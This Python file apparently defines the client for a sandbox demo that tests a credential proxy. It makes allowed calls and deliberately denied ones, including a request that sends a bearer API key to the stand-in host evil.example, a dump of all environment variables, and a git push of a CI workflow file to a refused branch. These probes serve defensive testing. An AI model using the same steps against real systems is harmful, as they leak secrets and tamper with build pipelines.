"""The demo's client: a program that tries allowed and denied requests.

Run in a sandbox by `demo.py`, which has it as text, and read back by `demo_claims.py`. It prints
each attempt and its result, separated by a tab, and knows neither the key nor the expected results.
"""

from __future__ import annotations

from keyhole.app.proofs import demo_repository
from keyhole.app.proofs.demo_calls import CALLS, GRPC_TYPE
from keyhole.app.proofs.demo_service import ASK, CALL, ECHO, HTTP2, NAME

VARIABLE = "HELLO_API_KEY"
DENIED_PATH = "/admin/keys"
DENIED_CALL = "/hello.v1.Hello/Delete"
DENIED_HOST = "evil.example"
DENIED_ADDRESS = "192.0.2.1"
"""A documentation address (RFC 5737), which no host has."""
DECODED = "    the same, read from base64"
"""The client's label for the echo's second field."""
CLONE = f"git clone https://{demo_repository.HOST}/{demo_repository.NAME}"
PUSH = "git push origin HEAD:"
"""The command that the client types, before the branch."""
GRANTED, REFUSED, POISONED = "agent/demo", "main", "agent/demo2"
"""Branches that it pushes: the last with a file that CI would execute."""
WORKFLOW = ".github/workflows/x.yml"
COMMIT = "    commit for "
"""The client's label for the commit that a branch was to have."""

CLIENT = f"""
import base64, json, os, socket, ssl, urllib.error, urllib.parse, urllib.request

def show(what, said):
    print(what, said, sep="\\t", flush=True)

def get(url):
    key = os.environ["{VARIABLE}"]
    request = urllib.request.Request(url, headers={{"Authorization": f"Bearer {{key}}"}})
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status, json.load(answer)
    except urllib.error.HTTPError as error:
        return error.code, json.load(error)

def attempt(url, *fields):
    try:
        status, answer = get(url)
        show(f"GET {{url}}", " ".join([str(status), *(str(answer[name]) for name in fields)]))
        return answer
    except OSError as error:
        show(f"GET {{url}}", f"refused: {{getattr(error, 'reason', error)}}")

def frame(kind, flags, stream, payload=b""):
    size, number = len(payload).to_bytes(3, "big"), stream.to_bytes(4, "big")
    return size + bytes([kind, flags]) + number + payload

def integer(data, at, bits):
    # HPACK: a number that begins in the last bits of a byte.
    value, shift, at = data[at] & (2**bits - 1), 0, at + 1
    while value >= 2**bits - 1 and (shift == 0 or data[at - 1] & 128):
        value, shift, at = value + ((data[at] & 127) << shift), shift + 7, at + 1
    return value, at

def text(data, at):
    size, at = integer(data, at, 7)
    return data[at:at + size].decode("latin-1"), at + size

def fields(data):
    # Fields in words of their own; of the others the name, or all, is in HPACK's table.
    at, found = 0, {{}}
    while at < len(data):
        if data[at] & 128 or data[at] & 224 == 32:  # of the table; the table's size
            at = integer(data, at, 7 if data[at] & 128 else 5)[1]
            continue
        name, at = integer(data, at, 6 if data[at] & 64 else 4)
        if not name:
            name, at = text(data, at)
        found[name], at = text(data, at)
    return found

def converse(sock, path):
    # One call of HTTP/2, as a program without a library for it can make: an empty message.
    words = [(":method", "POST"), (":scheme", "https"), (":authority", "{CALLS}"), (":path", path)]
    words += [("content-type", "{GRPC_TYPE}"), ("te", "trailers")]
    words += [("authorization", f"Bearer {{os.environ['{VARIABLE}']}}")]
    pack = lambda word: bytes([len(word)]) + word.encode()
    head = b"".join(b"\\0" + pack(name) + pack(value) for name, value in words)
    empty_table = frame(4, 0, 0, b"\\0\\1\\0\\0\\0\\0")
    sock.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + empty_table)
    sock.sendall(frame(1, 4, 1, head) + frame(0, 1, 1, bytes(5)))
    found, body, stream = {{}}, b"", sock.makefile("rb")
    while start := stream.read(9):
        payload, kind, flags = stream.read(int.from_bytes(start[:3], "big")), start[3], start[4]
        if kind == 0:
            body += payload
        elif kind == 1:
            found.update(fields(payload))
        elif kind == 4 and not flags:
            sock.sendall(frame(4, 1, 0))
        elif kind in (3, 7):
            raise OSError("the call was reset")
        if kind < 2 and flags & 1:
            return found, body[7:5 + int.from_bytes(body[1:5], "big")].decode()
    raise OSError("the call was cut")

def call(path):
    context = ssl.create_default_context()
    context.set_alpn_protocols(["{HTTP2}"])
    try:
        with socket.create_connection(("{CALLS}", 443), 10) as plain:
            with context.wrap_socket(plain, server_hostname="{CALLS}") as sock:
                found, said = converse(sock, path)
        why = urllib.parse.unquote(found.get("grpc-message", ""))
        show(f"GRPC {{path[1:]}}", f"status {{found.get('grpc-status')}} {{said or why}}")
    except OSError as error:
        show(f"GRPC {{path[1:]}}", f"refused: {{error}}")

show("network interfaces", " ".join(name for _, name in socket.if_nameindex()))
environment = {{}}
for name, value in os.environ.items():
    environment.setdefault(value, []).append(name)
for value, names in environment.items():
    show(f"env {{names[0]}}" + (f" and {{len(names) - 1}} more" if names[1:] else ""), value)
attempt("https://{NAME}{ASK}", "said")
echoed = attempt("https://{NAME}{ECHO}", "authorization")
show("{DECODED}", base64.b64decode(echoed["base64"]).decode("latin-1"))
attempt("https://{NAME}{DENIED_PATH}", "why")
call("{CALL}")
call("{DENIED_CALL}")
attempt("https://{DENIED_HOST}/")
attempt("https://{DENIED_ADDRESS}/")
"""
"""An ordinary client: it takes the key from its environment and sends it wherever it asks."""

GIT_CLIENT = f"""
import subprocess

def git(*words):
    done = subprocess.run(("git", *words), capture_output=True, text=True)
    return done.returncode, done.stdout, done.stderr.splitlines()

def attempt_git(*words):
    code, _, lines = git(*words)
    telling = [line for line in lines if " -> " in line] or lines or [""]
    show(" ".join(("git", *words)), f"exit {{code}}: " + " ".join(telling[0].split()))

def commit(name, branch):
    os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
    with open(name, "w") as file:
        file.write("on: push\\n")
    git("add", name)
    git("commit", "-m", name)
    show(f"{COMMIT}{{branch}}", git("rev-parse", "HEAD")[1].strip())

os.chdir(os.environ["HOME"])
attempt_git(*"{CLONE}".split()[1:])
os.chdir("widgets")
commit("notes", "{GRANTED}")
attempt_git("push", "origin", "HEAD:{GRANTED}")
attempt_git("push", "origin", "HEAD:{REFUSED}")
commit("{WORKFLOW}", "{POISONED}")
attempt_git("push", "origin", "HEAD:{POISONED}")
"""
"""Git with its usual settings, in a directory of the sandbox's own."""
